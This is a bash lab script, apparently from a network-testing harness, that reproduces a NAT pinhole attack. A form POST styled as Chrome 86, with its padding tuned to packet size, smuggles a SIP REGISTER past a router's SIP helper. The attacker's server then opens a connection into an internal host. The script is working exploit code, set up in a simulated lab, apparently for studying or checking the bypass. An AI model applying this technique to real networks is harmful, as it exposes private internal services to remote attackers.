#!/bin/bash
. "$(dirname "$0")/../../lab.sh"
. "$(dirname "$0")/../../kernel.sh"
lab
arm sip 5060 tcp
spawn client python3 "$TOOLS/data_host.py" 5000 "what only the inside should see"
# The attacker's server answers the form, and then what he takes out of it, in a segment of its own.
spawn server python3 -c "
import socket, time
listener = socket.create_server(('', 5060))
while True:
    connection, _ = listener.accept()
    with connection:
        data = b''
        while b'--end--' not in data:
            piece = connection.recv(65536)
            if not piece: break
            data += piece
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 300\r\n\r\n')
        time.sleep(0.1)
        if b'REGISTER' in data:
            connection.sendall(b'SIP/2.0 200 OK\r\nVia: SIP/2.0/TCP 192.168.1.5:5060;branch=z9hG4bK-1;rport=5060;received=192.168.1.5\r\n'
                b'Contact: <sip:a@192.168.1.5:5000;transport=TCP>;expires=60\r\nTo: <sip:a@e.example>;tag=2\r\nFrom: <sip:a@e.example>;tag=1\r\n'
                b'Call-ID: abc\r\nCSeq: 1 REGISTER\r\nContent-Length: 0\r\n\r\n')
        time.sleep(0.2)"
wait_port client 5000; wait_port server 5060
come() {
    on server python3 -c "
import socket
try:
    with socket.create_connection(('192.168.1.5', 5000), timeout=0.5, source_address=('$WEB', 0)) as inside:
        print('came in:', inside.recv(100))
except OSError as closed:
    print('closed:', closed)"
}
# post PATH PADDING TEXT: a form's POST as Chrome 86 sent it, of which the second segment begins with this text.
post() {
    local head="POST $1 HTTP/1.1\r\nHost: $WEB:5060\r\nContent-Length: 6000\r\nOrigin: http://evil.example\r\nContent-Type: multipart/form-data; \
boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\nUpgrade-Insecure-Requests: 1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 \
(KHTML, like Gecko) Chrome/86.0.4240.75 Safari/537.36\r\n\r\n"
    on client python3 "$TOOLS/send.py" $WEB 5060 "$head$(printf "%0$2d" 0)" "$3--end--"
}
capture web
come
post /size 900 "BEGIN_MAXPKTSIZE=1448$(printf '%01200d' 0)"
post /name 900 'REGISTER sip:e.example;transport=TCP SIP/2.0\r\nVia: SIP/2.0/TCP 192.168.1.5:5060;branch=z9hG4bK-1;rport\r\nMax-Forwards: 70\r\n\
Contact: <sip:a@192.168.1.5:5000;transport=TCP>\r\nTo: <sip:a@e.example;transport=TCP>\r\nFrom: <sip:a@e.example;transport=TCP>;tag=1\r\n\
Call-ID: abc\r\nCSeq: 1 REGISTER\r\nExpires: 60\r\nContent-Length: 0\r\n\r\n'
come
answer
